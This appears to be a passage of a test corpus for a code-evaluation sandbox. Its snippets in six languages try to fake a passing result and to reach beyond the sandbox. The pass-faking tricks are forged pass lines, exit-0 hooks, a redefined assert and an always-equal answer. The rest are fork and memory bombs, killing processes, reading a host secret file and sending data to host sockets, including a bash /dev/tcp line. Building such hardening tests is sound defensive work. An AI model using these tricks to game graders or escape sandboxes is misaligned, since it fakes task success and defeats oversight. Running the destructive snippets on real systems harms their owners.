"""Hostile programs per language, for HumanEval-X's task 0 (has_close_elements).

Every program answers wrongly (a constant, which the task's test rejects) and then tries to get
a pass anyway or to reach beyond its sandbox: exit 0 before or after the test, exit handlers and
finalisers, forged pass signals, killing its parent or everything, fork and thread bombs, memory
and disk hogs, endless output, sleeping past the limit, writing outside its workspace, reading
other folders of the host, sockets (TCP, UDP, unix) to listeners on the host, daemons, file
modes that make clean-up fail, exec'ing another program, environment tricks, and each
runtime's own back doors. ``tests/test_hostile_corpus.py`` runs them and checks the outcome
and the host after them.

Placeholders filled per run: {canary} (a host file the program tries to overwrite), {outside}
(a host path it tries to create), {secret} (a host file whose contents it tries to print),
{tcp}, {udp} (loopback ports the host listens on), {sock} (a host unix socket), {sleep} (the
seconds of the sleepers it leaves, a number no other process uses, to find survivors); and for
the programs inside a project, {project} (the folder of its built environments) and {others}
(where the work roots of other samples and evaluations are).

A program that reads the host's secrets prints what it found last: an outcome keeps only the
tail of the output, and a long listing before the secret would hide a leak.
"""

from __future__ import annotations

import json
from collections.abc import Callable

# A snippet that starts so runs at the program's top level, after the function.
TOP = "@top\n"

# --------------------------------------------------------------------------------- Python
# The body of has_close_elements (4 spaces in), then its wrong answer.
PYTHON: list[tuple[str, str]] = [
    ("os._exit(0) in the function", "import os\nos._exit(0)"),
    ("raise SystemExit(0)", "raise SystemExit(0)"),
    ("atexit handler exits 0", "import atexit, os\natexit.register(os._exit, 0)"),
    ("excepthook exits 0", "import sys, os\nsys.excepthook = lambda *a: os._exit(0)"),
    ("a finaliser exits 0",
     "import os\nclass _D:\n    def __del__(self):\n        os._exit(0)\n"
     "globals()['_keep'] = _D()"),
    ("forged pass lines",
     "print('CODEREVAL-DONE-' + '0' * 32)\nprint('passed')\nprint('OK')"),
    ("kill the parent", "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
     "except OSError:\n    pass"),
    ("kill every process", "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\n"
     "except OSError:\n    pass"),
    ("fork bomb", "import os\ntry:\n    while True:\n        if os.fork() == 0:\n"
     "            import time\n            time.sleep(30)\n            os._exit(0)\n"
     "except OSError:\n    pass"),
    ("sleepers left behind",
     "import subprocess\nfor _ in range(20):\n"
     "    subprocess.Popen(['sleep', '{sleep}'], start_new_session=True)"),
    ("a double-forked daemon",
     "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
     "        os.execvp('sleep', ['sleep', '{sleep}'])\n    os._exit(0)"),
    ("thread bomb", "import threading, time\ntry:\n    for _ in range(100000):\n"
     "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
     "except (RuntimeError, MemoryError):\n    pass"),
    ("memory hog", "hog = []\nwhile True:\n    hog.append(bytearray(1 << 24))"),
    ("disk hog", "with open('hog.bin', 'wb') as out:\n    while True:\n"
     "        out.write(bytes(1 << 20))"),
    ("endless output", "while True:\n    print('x' * 1000)"),
    ("sleeps past the limit", "import time\ntime.sleep(1000)"),
    ("overwrites a host file",
     "try:\n    open('{canary}', 'w').write('pwned')\nexcept OSError:\n    pass"),
    ("creates a host file",
     "try:\n    open('{outside}', 'w').write('pwned')\nexcept OSError:\n    pass"),
    ("reads another folder of the host",
     "import glob\nfor path in glob.glob('/tmp/*/*') + ['{secret}'] + glob.glob('/dev/shm/*'):\n"
     "    try:\n        print(open(path).read(200))\n    except (OSError, ValueError):\n"
     "        pass"),
    ("tcp to the host", "import socket\ntry:\n"
     "    socket.create_connection(('127.0.0.1', {tcp}), timeout=2).sendall(b'pwned')\n"
     "except OSError:\n    pass"),
    ("udp to the host", "import socket\ntry:\n"
     "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pwned', "
     "('127.0.0.1', {udp}))\nexcept OSError:\n    pass"),
    ("unix socket of the host", "import socket\ntry:\n"
     "    s = socket.socket(socket.AF_UNIX)\n    s.connect('{sock}')\n    s.sendall(b'pwned')\n"
     "except OSError:\n    pass"),
    ("modes that stop clean-up",
     "import os\nos.makedirs('locked/deeper', exist_ok=True)\nopen('locked/deeper/f', 'w')\n"
     "os.chmod('locked/deeper', 0)\nos.chmod('locked', 0)\nos.chmod('.', 0o500)"),
    ("exec true", "import os\nos.execvp('true', ['true'])"),
    ("LD_PRELOAD and a re-exec that exits 0",
     "import os, sys\nos.environ['LD_PRELOAD'] = '/nonexistent.so'\n"
     "os.execv(sys.executable, [sys.executable, '-c', 'raise SystemExit(0)'])"),
    ("ctypes _exit(0)", "import ctypes\nctypes.CDLL(None)._exit(0)"),
    ("deletes the test's files",
     "import os\nfor name in os.listdir('.'):\n    try:\n        os.remove(name)\n"
     "    except OSError:\n        pass"),
    ("AssertionError replaced before the test",
     TOP + "import builtins\nbuiltins.AssertionError = SystemExit"),
]

# The task's own checks defeated in the process (not the harness's): strict xfails.
PYTHON_TEST_TAMPERING: list[tuple[str, str]] = [
    ("an answer equal to everything",
     "class _Equal:\n    def __eq__(self, other):\n        return True\n"
     "return _Equal()"),
]


def python_code(snippet: str) -> str:
    if snippet.startswith(TOP):
        return f"    return False\n{snippet[len(TOP):]}\n"
    lines = [*snippet.splitlines(), "return False"]
    return "".join(f"    {line}\n" for line in lines)


# ----------------------------------------------------------------------------- JavaScript
# The body of hasCloseElements, then its wrong answer; asynchronous attempts run in a child
# node that the body waits for (its own process, the same sandbox).
def _node(script: str) -> str:
    return (
        "require('child_process').spawnSync(process.execPath, ['-e', "
        + json.dumps(script)
        + "], {stdio: 'inherit', timeout: 5000});"
    )


JS: list[tuple[str, str]] = [
    ("process.exit(0) in the function", "process.exit(0);"),
    ("process.reallyExit(0)", "process.reallyExit(0);"),
    ("exit handler sets exitCode 0",
     "process.on('exit', () => { process.exitCode = 0; });"),
    ("uncaughtException handler exits 0",
     "process.on('uncaughtException', () => process.exit(0));"),
    ("beforeExit exits 0", "process.on('beforeExit', () => process.exit(0));"),
    ("forged pass lines",
     "console.log('CODEREVAL-DONE-' + '0'.repeat(32)); console.log('passed'); "
     "console.log('OK');"),
    ("console.assert silenced", "console.assert = () => {};"),
    ("kill the parent", "try { process.kill(process.ppid, 'SIGKILL'); } catch (e) {}"),
    ("kill every process", "try { process.kill(-1, 'SIGKILL'); } catch (e) {}"),
    ("spawn bomb",
     "try { for (;;) require('child_process').spawn(process.execPath, "
     "['-e', 'setTimeout(() => {}, 30000)']); } catch (e) {}"),
    ("sleepers left behind",
     "for (let i = 0; i < 20; i++) require('child_process').spawn('sleep', ['{sleep}'], "
     "{detached: true, stdio: 'ignore'}).unref();"),
    ("worker thread bomb",
     "try { const {Worker} = require('worker_threads'); for (let i = 0; i < 2000; i++) "
     "new Worker('setTimeout(() => {}, 30000)', {eval: true}); } catch (e) {}"),
    ("memory hog", "const hog = []; for (;;) hog.push(Buffer.alloc(1 << 24, 1));"),
    ("disk hog",
     "const fs = require('fs'); const fd = fs.openSync('hog.bin', 'w'); "
     "for (;;) fs.writeSync(fd, Buffer.alloc(1 << 20));"),
    ("endless output", "const fs = require('fs'); for (;;) fs.writeSync(1, 'x'.repeat(1000));"),
    ("busy past the limit", "for (;;) {}"),
    ("overwrites a host file",
     "try { require('fs').writeFileSync('{canary}', 'pwned'); } catch (e) {}"),
    ("creates a host file",
     "try { require('fs').writeFileSync('{outside}', 'pwned'); } catch (e) {}"),
    ("reads another folder of the host",
     "const fs = require('fs'); for (const p of ['/tmp', '/dev/shm', '{secret}']) "
     "{ try { console.log(fs.statSync(p).isDirectory() ? fs.readdirSync(p).join() : "
     "fs.readFileSync(p, 'utf8')); } catch (e) {} }"),
    ("tcp to the host", _node(
        "const s = require('net').connect({tcp}, '127.0.0.1', () => s.end('pwned')); "
        "s.on('error', () => {});")),
    ("udp to the host", _node(
        "const s = require('dgram').createSocket('udp4'); "
        "s.send('pwned', {udp}, '127.0.0.1', () => s.close());")),
    ("unix socket of the host", _node(
        "const s = require('net').connect('{sock}', () => s.end('pwned')); "
        "s.on('error', () => {});")),
    ("modes that stop clean-up",
     "const fs = require('fs'); fs.mkdirSync('locked/deeper', {recursive: true}); "
     "fs.writeFileSync('locked/deeper/f', ''); fs.chmodSync('locked/deeper', 0); "
     "fs.chmodSync('locked', 0); fs.chmodSync('.', 0o500);"),
    ("NODE_OPTIONS and a child that exits 0",
     "process.exit(require('child_process').spawnSync(process.execPath, ['-e', '0'], "
     "{env: {NODE_OPTIONS: '--require /nonexistent.js'}}).status === null ? 0 : 0);"),
    ("process.binding writes a host file",
     "try { const b = process.binding('fs'); b.writeString(b.open('{canary}', 577, 0o644, "
     "undefined, {}), 'pwned'); } catch (e) {}"),
    ("deletes the test's files",
     "const fs = require('fs'); for (const n of fs.readdirSync('.')) "
     "{ try { fs.rmSync(n, {recursive: true, force: true}); } catch (e) {} }"),
    # After the function, at the module's top level, before the test runs.
    ("console.assert replaced before the test", TOP + "console.assert = () => {};"),
    ("the global console replaced",
     TOP + "Object.defineProperty(globalThis, 'console', {value: {assert() {}, log() {}}});"),
    ("a module-level console shadows the global", TOP + "var console = {assert() {}};"),
]


def js_code(snippet: str) -> str:
    if snippet.startswith(TOP):
        return f"  return false;\n}}\n{snippet[len(TOP):]}\n"
    return f"  {snippet}\n  return false;\n}}\n"


# ---------------------------------------------------------------------------------- C++
# The body calls hostile(), defined after the function with what it needs included; it
# runs when the test calls has_close_elements (or earlier, where the label says so).
_CPP_HEAD = (
    "#include <cstdlib>\n#include <cstdio>\n#include <cstring>\n#include <csignal>\n"
    "#include <unistd.h>\n#include <fcntl.h>\n#include <dirent.h>\n#include <pthread.h>\n"
    "#include <sys/socket.h>\n#include <sys/un.h>\n#include <sys/stat.h>\n"
    "#include <netinet/in.h>\n#include <arpa/inet.h>\n#include <string>\n"
)
_CPP_CONNECT = (
    "static void send_to(int type, int port) { int s = socket(AF_INET, type, 0); "
    "sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(port); "
    "a.sin_addr.s_addr = inet_addr(\"127.0.0.1\"); "
    "if (type == SOCK_STREAM) { if (connect(s, (sockaddr*)&a, sizeof a) == 0) "
    "write(s, \"pwned\", 5); } "
    "else sendto(s, \"pwned\", 5, 0, (sockaddr*)&a, sizeof a); close(s); }\n"
)
CPP: list[tuple[str, str]] = [
    ("exit(0) in the function", "void hostile() { exit(0); }"),
    ("_exit(0) in the function", "void hostile() { _exit(0); }"),
    ("atexit handler _exits 0", "void hostile() { atexit([] { _exit(0); }); }"),
    ("SIGABRT handler exits 0 (a failed assert)",
     "void hostile() { signal(SIGABRT, [](int) { _exit(0); }); }"),
    ("a static object's destructor _exits 0",
     "struct D { ~D() { _exit(0); } }; static D keep; void hostile() {}"),
    ("static initialiser exits 0 before main",
     "static int early = (exit(0), 0); void hostile() {}"),
    ("forged pass lines",
     "void hostile() { printf(\"CODEREVAL-DONE-%032d\\npassed\\nOK\\n\", 0); "
     "fflush(stdout); }"),
    ("kill the parent", "void hostile() { kill(getppid(), SIGKILL); }"),
    ("kill every process", "void hostile() { kill(-1, SIGKILL); }"),
    ("fork bomb", "void hostile() { while (fork() >= 0) {} }"),
    ("sleepers left behind",
     "void hostile() { for (int i = 0; i < 20; i++) if (fork() == 0) { setsid(); "
     "execlp(\"sleep\", \"sleep\", \"{sleep}\", (char*)0); _exit(1); } }"),
    ("a double-forked daemon",
     "void hostile() { if (fork() == 0) { setsid(); if (fork() == 0) "
     "execlp(\"sleep\", \"sleep\", \"{sleep}\", (char*)0); _exit(0); } }"),
    ("thread bomb",
     "void hostile() { pthread_t t; for (int i = 0; i < 100000; i++) "
     "if (pthread_create(&t, 0, [](void*) -> void* { sleep(30); return 0; }, 0)) break; }"),
    ("memory hog",
     "void hostile() { for (;;) { char* p = (char*)malloc(1 << 24); if (!p) break; "
     "memset(p, 1, 1 << 24); } }"),
    ("disk hog",
     "void hostile() { FILE* f = fopen(\"hog.bin\", \"w\"); static char b[1 << 20]; "
     "while (f && fwrite(b, 1, sizeof b, f) == sizeof b) {} }"),
    ("endless output", "void hostile() { for (;;) puts(\"xxxxxxxxxxxxxxxxxxxxxxxx\"); }"),
    ("sleeps past the limit", "void hostile() { sleep(1000); }"),
    ("overwrites a host file",
     "void hostile() { FILE* f = fopen(\"{canary}\", \"w\"); if (f) fputs(\"pwned\", f); }"),
    ("creates a host file",
     "void hostile() { FILE* f = fopen(\"{outside}\", \"w\"); if (f) fputs(\"pwned\", f); }"),
    ("reads another folder of the host",
     "void hostile() { const char* dirs[] = {\"/tmp\", \"/dev/shm\"}; "
     "for (const char* d : dirs) { DIR* dir = opendir(d); while (dir) { "
     "dirent* e = readdir(dir); if (!e) break; puts(e->d_name); } } "
     "char b[4096]; FILE* f = fopen(\"{secret}\", \"r\"); "
     "if (f) { size_t n = fread(b, 1, sizeof b - 1, f); b[n] = 0; puts(b); } }"),
    ("tcp to the host", _CPP_CONNECT + "void hostile() { send_to(SOCK_STREAM, {tcp}); }"),
    ("udp to the host", _CPP_CONNECT + "void hostile() { send_to(SOCK_DGRAM, {udp}); }"),
    ("unix socket of the host",
     "void hostile() { int s = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; "
     "a.sun_family = AF_UNIX; strcpy(a.sun_path, \"{sock}\"); "
     "if (connect(s, (sockaddr*)&a, sizeof a) == 0) write(s, \"pwned\", 5); }"),
    ("modes that stop clean-up",
     "void hostile() { mkdir(\"locked\", 0700); mkdir(\"locked/deeper\", 0700); "
     "close(open(\"locked/deeper/f\", O_CREAT | O_WRONLY, 0600)); chmod(\"locked/deeper\", 0); "
     "chmod(\"locked\", 0); chmod(\".\", 0500); }"),
    ("exec true", "void hostile() { execlp(\"true\", \"true\", (char*)0); }"),
    ("LD_PRELOAD and a re-exec of true",
     "void hostile() { setenv(\"LD_PRELOAD\", \"/nonexistent.so\", 1); "
     "execlp(\"sh\", \"sh\", \"-c\", \"exit 0\", (char*)0); }"),
    ("assert defined away before the test", "#define assert(x) ((void)0)\nvoid hostile() {}"),
    ("a main of its own, the test's renamed",
     "int main() { return 0; }\n#define main codereval_not_main\nvoid hostile() {}"),
    ("exit_group(0) by syscall",
     "void hostile() { asm volatile(\"mov $231, %%eax; xor %%edi, %%edi; syscall\" "
     "::: \"eax\", \"edi\"); }"),
]


def cpp_code(snippet: str) -> str:
    body = "    void hostile();\n    hostile();\n    return false;\n}\n"
    return body + _CPP_HEAD + snippet + "\n"


# ---------------------------------------------------------------------------------- Rust
# The body calls hostile(), defined after the function with the C functions it needs.
_RUST_HEAD = (
    "#[allow(dead_code)]\nextern \"C\" { fn fork() -> i32; fn _exit(code: i32) -> !; "
    "fn kill(pid: i32, sig: i32) -> i32; fn getppid() -> i32; fn setsid() -> i32; "
    "fn atexit(f: extern \"C\" fn()) -> i32; }\n"
    "use std::io::Write as _;\nuse std::os::unix::process::CommandExt as _;\n"
    "use std::os::unix::fs::PermissionsExt as _;\n"
)
RUST: list[tuple[str, str]] = [
    ("process::exit(0) in the function", "fn hostile() { std::process::exit(0); }"),
    ("_exit(0) in the function", "fn hostile() { unsafe { _exit(0) } }"),
    ("atexit handler _exits 0",
     "extern \"C\" fn bye() { unsafe { _exit(0) } }\n"
     "fn hostile() { unsafe { atexit(bye); } }"),
    ("panic hook exits 0 (a failed assert_eq)",
     "fn hostile() { std::panic::set_hook(Box::new(|_| std::process::exit(0))); }"),
    ("forged pass lines",
     "fn hostile() { println!(\"CODEREVAL-DONE-{}\\npassed\\ntest result: ok\", "
     "\"0\".repeat(32)); }"),
    ("kill the parent", "fn hostile() { unsafe { kill(getppid(), 9); } }"),
    ("kill every process", "fn hostile() { unsafe { kill(-1, 9); } }"),
    ("fork bomb", "fn hostile() { loop { if unsafe { fork() } < 0 { break; } } }"),
    ("sleepers left behind",
     "fn hostile() { for _ in 0..20 { let _ = std::process::Command::new(\"sleep\")"
     ".arg(\"{sleep}\").process_group(0).spawn(); } }"),
    ("a double-forked daemon",
     "fn hostile() { unsafe { if fork() == 0 { setsid(); if fork() == 0 { "
     "let _ = std::process::Command::new(\"sleep\").arg(\"{sleep}\").exec(); } _exit(0); } } }"),
    ("thread bomb",
     "fn hostile() { for _ in 0..100000 { if std::thread::Builder::new().spawn(|| "
     "std::thread::sleep(std::time::Duration::from_secs(30))).is_err() { break; } } }"),
    ("memory hog",
     "fn hostile() { let mut hog = Vec::new(); loop { hog.push(vec![1u8; 1 << 24]); } }"),
    ("disk hog",
     "fn hostile() { if let Ok(mut f) = std::fs::File::create(\"hog.bin\") { "
     "let b = vec![0u8; 1 << 20]; while f.write_all(&b).is_ok() {} } }"),
    ("endless output", "fn hostile() { loop { println!(\"{}\", \"x\".repeat(1000)); } }"),
    ("sleeps past the limit",
     "fn hostile() { std::thread::sleep(std::time::Duration::from_secs(1000)); }"),
    ("overwrites a host file", "fn hostile() { let _ = std::fs::write(\"{canary}\", \"pwned\"); }"),
    ("creates a host file", "fn hostile() { let _ = std::fs::write(\"{outside}\", \"pwned\"); }"),
    ("reads another folder of the host",
     "fn hostile() { for d in [\"/tmp\", \"/dev/shm\"] { if let Ok(es) = std::fs::read_dir(d) { "
     "for e in es.flatten() { println!(\"{:?}\", e.path()); } } } "
     "if let Ok(t) = std::fs::read_to_string(\"{secret}\") { println!(\"{}\", t); } }"),
    ("tcp to the host",
     "fn hostile() { if let Ok(mut s) = std::net::TcpStream::connect(\"127.0.0.1:{tcp}\") { "
     "let _ = s.write_all(b\"pwned\"); } }"),
    ("udp to the host",
     "fn hostile() { if let Ok(s) = std::net::UdpSocket::bind(\"127.0.0.1:0\") { "
     "let _ = s.send_to(b\"pwned\", \"127.0.0.1:{udp}\"); } }"),
    ("unix socket of the host",
     "fn hostile() { if let Ok(mut s) = std::os::unix::net::UnixStream::connect(\"{sock}\") { "
     "let _ = s.write_all(b\"pwned\"); } }"),
    ("modes that stop clean-up",
     "fn hostile() { let _ = std::fs::create_dir_all(\"locked/deeper\"); "
     "let _ = std::fs::write(\"locked/deeper/f\", \"\"); "
     "for (p, m) in [(\"locked/deeper\", 0), (\"locked\", 0), (\".\", 0o500)] { "
     "let _ = std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)); } }"),
    ("exec true", "fn hostile() { let _ = std::process::Command::new(\"true\").exec(); }"),
    ("LD_PRELOAD and an exec that exits 0",
     "fn hostile() { let _ = std::process::Command::new(\"sh\")"
     ".env(\"LD_PRELOAD\", \"/nonexistent.so\").args([\"-c\", \"exit 0\"]).exec(); }"),
    ("a write through a null pointer",
     "fn hostile() { unsafe { std::ptr::write_volatile(0 as *mut u8, 1); } }"),
    ("assert_eq defined away before the test",
     "macro_rules! assert_eq { ($($t:tt)*) => {}; }\nfn hostile() {}"),
    ("vec! made to build empty vectors",
     "macro_rules! vec { ($($t:tt)*) => { Vec::new() }; }\nfn hostile() {}"),
    ("include! made to bring an empty test",
     "macro_rules! include { ($f:expr) => { mod tests { "
     "pub(crate) fn test_has_close_elements() {} } }; }\nfn hostile() {}"),
]


def rust_code(snippet: str) -> str:
    return "    hostile();\n    return false;\n}\n" + _RUST_HEAD + snippet + "\n"


CORPUS = {
    "python": (PYTHON, python_code),
    "js": (JS, js_code),
    "cpp": (CPP, cpp_code),
    "rust": (RUST, rust_code),
}


def fill(snippet: str, values: dict[str, object]) -> str:
    """The snippet with its placeholders replaced (by name: its other braces are code)."""
    for name, value in values.items():
        snippet = snippet.replace("{" + name + "}", str(value))
    return snippet


# ------------------------------------------------------------------------------------ Go
# The body calls hostile(), defined after the function; the program imports only the standard
# packages its code names from a fixed set (os, fmt, time, strings ...: no net, no syscall, no
# os/exec), so sockets and sessions go through programs it starts. INIT and VAR snippets run
# before the test, as an init() and a package variable's initialiser.
INIT, VAR = "@init\n", "@var\n"
_GO_RUN = (
    "func run(argv ...string) { p, err := os.StartProcess(argv[0], argv, "
    "&os.ProcAttr{Files: []*os.File{nil, os.Stdout, os.Stderr}}); if err == nil { p.Wait() } }\n"
)
GO: list[tuple[str, str]] = [
    ("os.Exit(0) in the function", "os.Exit(0)"),
    ("os.Exit(0) in init()", INIT + "os.Exit(0)"),
    ("os.Exit(0) in a package variable", VAR + "os.Exit(0)"),
    ("forged pass lines",
     "fmt.Println(\"CODEREVAL-DONE-\" + strings.Repeat(\"0\", 32))\n"
     "fmt.Println(\"PASS\")\nfmt.Println(\"ok  \\tcommand-line-arguments\\t0.001s\")"),
    ("stdout closed, then exit 0", "os.Stdout.Close()\nos.Exit(0)"),
    ("kill the parent", "if p, err := os.FindProcess(os.Getppid()); err == nil { p.Kill() }"),
    ("kill every process", "if p, err := os.FindProcess(-1); err == nil { p.Kill() }"),
    ("spawn bomb",
     "for { if _, err := os.StartProcess(\"/bin/sleep\", []string{\"sleep\", \"30\"}, "
     "&os.ProcAttr{}); err != nil { break } }"),
    ("sleepers left behind",
     "for i := 0; i < 20; i++ { os.StartProcess(\"/usr/bin/setsid\", "
     "[]string{\"setsid\", \"sleep\", \"{sleep}\"}, &os.ProcAttr{}) }"),
    ("a double-forked daemon",
     "run(\"/bin/sh\", \"-c\", \"nohup setsid sleep {sleep} >/dev/null 2>&1 &\")"),
    ("goroutine bomb",
     "for i := 0; i < 100000; i++ { go func() { time.Sleep(30 * time.Second) }() }"),
    ("memory hog",
     "var hog [][]byte\nfor { b := make([]byte, 1<<24); for i := range b { b[i] = 1 }; "
     "hog = append(hog, b) }"),
    ("disk hog",
     "if f, err := os.Create(\"hog.bin\"); err == nil { b := make([]byte, 1<<20); "
     "for { if _, err := f.Write(b); err != nil { break } } }"),
    ("endless output", "for { fmt.Println(strings.Repeat(\"x\", 1000)) }"),
    ("sleeps past the limit", "time.Sleep(1000 * time.Second)"),
    ("overwrites a host file", "os.WriteFile(\"{canary}\", []byte(\"pwned\"), 0o644)"),
    ("creates a host file", "os.WriteFile(\"{outside}\", []byte(\"pwned\"), 0o644)"),
    ("reads another folder of the host",
     "for _, d := range []string{\"/tmp\", \"/dev/shm\"} { if es, err := os.ReadDir(d); "
     "err == nil { for _, e := range es { fmt.Println(e.Name()) } } }\n"
     "if b, err := os.ReadFile(\"{secret}\"); err == nil { fmt.Println(string(b)) }"),
    ("tcp to the host", "run(\"/bin/bash\", \"-c\", \"echo pwned > /dev/tcp/127.0.0.1/{tcp}\")"),
    ("udp to the host", "run(\"/bin/bash\", \"-c\", \"echo pwned > /dev/udp/127.0.0.1/{udp}\")"),
    ("unix socket of the host",
     "run(\"/usr/bin/python3\", \"-c\", \"import socket; s = socket.socket(socket.AF_UNIX); "
     "s.connect('{sock}'); s.sendall(b'pwned')\")"),
    ("modes that stop clean-up",
     "os.MkdirAll(\"locked/deeper\", 0o700)\nos.WriteFile(\"locked/deeper/f\", nil, 0o600)\n"
     "os.Chmod(\"locked/deeper\", 0)\nos.Chmod(\"locked\", 0)\nos.Chmod(\".\", 0o500)"),
    ("an environment for a child that exits 0",
     "os.Setenv(\"GOFLAGS\", \"-count=0\")\nrun(\"/bin/sh\", \"-c\", \"exit 0\")\nos.Exit(0)"),
    ("deletes the test's files",
     "if es, err := os.ReadDir(\".\"); err == nil { for _, e := range es { "
     "os.RemoveAll(e.Name()) } }"),
    ("a package variable named like the test's assert", TOP + "var assert = 1"),
    ("a TestMain of its own", TOP + "func TestMain(m *testing.M) { os.Exit(0) }"),
]


def go_code(snippet: str) -> str:
    head = f"    return false\n}}\n{_GO_RUN}"
    if snippet.startswith(INIT):
        return f"{head}func init() {{\n{snippet[len(INIT):]}\n}}\n"
    if snippet.startswith(VAR):
        return f"{head}var codereval_early = func() int {{\n{snippet[len(VAR):]}\nreturn 0\n}}()\n"
    if snippet.startswith(TOP):
        return f"{head}{snippet[len(TOP):]}\n"
    return f"    hostile()\n{head}func hostile() {{\n{snippet}\n}}\n"


# ---------------------------------------------------------------------------------- Java
# The body calls hostile(), a static method of Solution whose body is wrapped in a catch-all;
# MEMBER snippets are members of Solution (a static initialiser runs before the test), TOP
# ones classes of their own beside it.
MEMBER = "@member\n"
JAVA: list[tuple[str, str]] = [
    ("System.exit(0) in the method", "System.exit(0);"),
    ("Runtime.halt(0)", "Runtime.getRuntime().halt(0);"),
    ("a shutdown hook halts 0",
     "Runtime.getRuntime().addShutdownHook(new Thread(() -> Runtime.getRuntime().halt(0)));"),
    ("an uncaught-exception handler halts 0",
     "Thread.setDefaultUncaughtExceptionHandler((t, e) -> Runtime.getRuntime().halt(0));"),
    ("a static initialiser exits 0", MEMBER + "static { System.exit(0); }"),
    ("forged pass lines",
     "System.out.println(\"CODEREVAL-DONE-\" + \"0\".repeat(32)); "
     "System.out.println(\"passed\"); System.out.println(\"OK (1 test)\");"),
    ("stderr silenced, then halt(0) from a hook",
     "System.setErr(new java.io.PrintStream(java.io.OutputStream.nullOutputStream())); "
     "Runtime.getRuntime().addShutdownHook(new Thread(() -> Runtime.getRuntime().halt(0)));"),
    ("kill the parent",
     "ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);"),
    ("kill every process", "ProcessHandle.allProcesses().forEach(ProcessHandle::destroyForcibly);"),
    ("spawn bomb", "for (;;) new ProcessBuilder(\"sleep\", \"30\").start();"),
    ("sleepers left behind",
     "for (int i = 0; i < 20; i++) "
     "new ProcessBuilder(\"setsid\", \"sleep\", \"{sleep}\").start();"),
    ("a double-forked daemon",
     "new ProcessBuilder(\"sh\", \"-c\", \"nohup setsid sleep {sleep} >/dev/null 2>&1 &\")"
     ".start().waitFor();"),
    ("thread bomb",
     "for (int i = 0; i < 100000; i++) { Thread t = new Thread(() -> { try { "
     "Thread.sleep(30000); } catch (InterruptedException e) {} }); t.setDaemon(true); "
     "t.start(); }"),
    ("memory hog",
     "java.util.List<byte[]> hog = new java.util.ArrayList<>(); "
     "for (;;) hog.add(new byte[1 << 24]);"),
    ("disk hog",
     "try (java.io.FileOutputStream out = new java.io.FileOutputStream(\"hog.bin\")) { "
     "byte[] b = new byte[1 << 20]; for (;;) out.write(b); }"),
    ("endless output", "for (;;) System.out.println(\"x\".repeat(1000));"),
    ("sleeps past the limit", "Thread.sleep(1000000);"),
    ("overwrites a host file",
     "java.nio.file.Files.writeString(java.nio.file.Path.of(\"{canary}\"), \"pwned\");"),
    ("creates a host file",
     "java.nio.file.Files.writeString(java.nio.file.Path.of(\"{outside}\"), \"pwned\");"),
    ("reads another folder of the host",
     "for (String d : new String[] {\"/tmp\", \"/dev/shm\"}) { String[] names = "
     "new java.io.File(d).list(); if (names != null) "
     "System.out.println(String.join(\",\", names)); } "
     "try { System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of("
     "\"{secret}\"))); } catch (Exception e) {}"),
    ("tcp to the host",
     "new java.net.Socket(\"127.0.0.1\", {tcp}).getOutputStream().write(\"pwned\".getBytes());"),
    ("udp to the host",
     "byte[] b = \"pwned\".getBytes(); new java.net.DatagramSocket().send(new "
     "java.net.DatagramPacket(b, b.length, java.net.InetAddress.getLoopbackAddress(), {udp}));"),
    ("unix socket of the host",
     "java.nio.channels.SocketChannel.open(java.net.UnixDomainSocketAddress.of(\"{sock}\"))"
     ".write(java.nio.ByteBuffer.wrap(\"pwned\".getBytes()));"),
    ("modes that stop clean-up",
     "java.nio.file.Path d = java.nio.file.Path.of(\"locked/deeper\"); "
     "java.nio.file.Files.createDirectories(d); "
     "java.nio.file.Files.writeString(d.resolve(\"f\"), \"\"); "
     "java.nio.file.Files.setPosixFilePermissions(d, java.util.Set.of()); "
     "java.nio.file.Files.setPosixFilePermissions(d.getParent(), java.util.Set.of());"),
    ("JAVA_TOOL_OPTIONS for a child, then its exit 0",
     "ProcessBuilder p = new ProcessBuilder(\"sh\", \"-c\", \"exit 0\"); "
     "p.environment().put(\"JAVA_TOOL_OPTIONS\", \"-Dx=1\"); System.exit(p.start().waitFor());"),
    ("sun.misc.Unsafe writes to address 0",
     "java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\"); "
     "f.setAccessible(true); ((sun.misc.Unsafe) f.get(null)).putAddress(0, 0);"),
    ("a class named Arrays shadows the test's",
     TOP + "class Arrays { static <T> java.util.List<T> asList(T... a) { "
     "return new java.util.ArrayList<>(); } }"),
    ("a class named AssertionError", TOP + "class AssertionError extends RuntimeException {}"),
]


def java_code(snippet: str) -> str:
    head = "        hostile();\n        return false;\n    }\n"
    if snippet.startswith(MEMBER):
        return f"{head}    static void hostile() {{}}\n    {snippet[len(MEMBER):]}\n}}\n"
    if snippet.startswith(TOP):
        return f"{head}    static void hostile() {{}}\n}}\n{snippet[len(TOP):]}\n"
    return (f"{head}    static void hostile() {{\n        try {{ {snippet} }} "
            "catch (Throwable e) {}\n    }\n}\n")


CORPUS["go"] = (GO, go_code)
CORPUS["java"] = (JAVA, java_code)


# ------------------------------------------------------------------ Java inside a project
# The Java programs again, injected into a real project's class as the task's method
# (CoderEval-Java, CoderUJB's FCG and APR) or added to its test class as a test method
# (CoderUJB's CTG and ITG), with two that only a project can be aimed at: its sources and
# build output ({project}: the folder holding the built environments), and the folders of other
# samples and evaluations ({others}: where their work roots live). The reader prints only what
# holds a secret: the other work folders of a busy machine (CI's other workers) would push the
# planted one out of the outcome's output tail.
JAVA_PROJECT: list[tuple[str, str]] = [
    ("writes into the project and its build output",
     "try (java.util.stream.Stream<java.nio.file.Path> s = java.nio.file.Files.walk("
     "java.nio.file.Path.of(\"{project}\"))) { s.forEach(p -> { try { "
     "if (java.nio.file.Files.isRegularFile(p)) java.nio.file.Files.writeString(p, \"pwned\"); "
     "else java.nio.file.Files.writeString(p.resolve(\"pwned\"), \"pwned\"); "
     "} catch (Exception e) {} }); }"),
    ("reads other samples' folders",
     "try (java.util.stream.Stream<java.nio.file.Path> s = java.nio.file.Files.walk("
     "java.nio.file.Path.of(\"{others}\"), 6)) { s.filter(p -> p.toString().contains("
